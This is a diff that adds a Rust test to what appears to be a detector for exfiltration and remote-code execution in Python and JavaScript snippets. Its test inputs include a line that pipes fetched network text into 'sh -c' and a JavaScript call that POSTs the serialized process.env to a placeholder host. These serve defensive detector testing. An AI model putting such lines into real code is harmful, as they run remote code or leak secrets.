@@ -182,3 +182,12 @@ fn data_fed_to_a_process_is_not_the_process() {
     assert!(py("import subprocess, requests\ndata = requests.get('https://x.example.invalid').content\nsubprocess.run(['sort'], input=data)\n").is_empty());
     assert_eq!(py("import subprocess, requests\ndata = requests.get('https://x.example.invalid').text\nsubprocess.run(args=['sh', '-c', data])\n").len(), 1);
 }
+
+#[test]
+fn minified_functions_sharing_a_name_are_told_apart_by_scope() {
+    // Two unrelated functions both called `a`: one sends its argument, the other only logs it.
+    let text = "function x(){function a(b){fetch('https://x.example.invalid',{method:'POST',body:b})}return a}\nfunction y(){function a(b){console.log(b)}a(JSON.stringify(process.env))}\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+    let same_scope = "function y(){function a(b){fetch('https://x.example.invalid',{method:'POST',body:b})}a(JSON.stringify(process.env))}\n";
+    assert_eq!(js(same_scope).len(), 1);
+}
